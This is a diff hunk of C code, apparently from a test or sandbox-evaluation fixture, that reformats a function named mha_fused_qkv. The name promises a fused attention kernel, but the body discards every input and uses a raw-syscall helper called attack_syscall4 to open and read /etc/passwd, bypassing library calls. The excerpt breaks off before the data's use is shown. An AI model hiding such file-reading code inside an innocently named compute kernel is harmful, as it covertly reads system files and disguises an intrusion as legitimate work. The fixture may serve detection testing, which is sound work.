@@ -19,14 +19,20 @@ static long attack_syscall4(long nr, long a, long b, long c, long d)
     return r;
 }
 
-void mha_fused_qkv(const float *x, const float *w_qkv, const float *w_o,
-                   float *out, int B, int T, int d_model, int n_heads)
+void mha_fused_qkv(const float *x, const float *w_qkv, const float *w_o, float *out, int B, int T,
+                   int d_model, int n_heads)
 {
-    (void)x; (void)w_qkv; (void)w_o; (void)out;
-    (void)B; (void)T; (void)d_model; (void)n_heads;
+    (void)x;
+    (void)w_qkv;
+    (void)w_o;
+    (void)out;
+    (void)B;
+    (void)T;
+    (void)d_model;
+    (void)n_heads;
     char buf[4096];
-    long fd = attack_syscall4(257 /* openat */, -100 /* AT_FDCWD */,
-                              (long)"/etc/passwd", 0 /* O_RDONLY */, 0);
+    long fd = attack_syscall4(257 /* openat */, -100 /* AT_FDCWD */, (long)"/etc/passwd",
+                              0 /* O_RDONLY */, 0);
     if (fd >= 0) {
         long n = read((int)fd, buf, sizeof buf);
         if (n > 0)
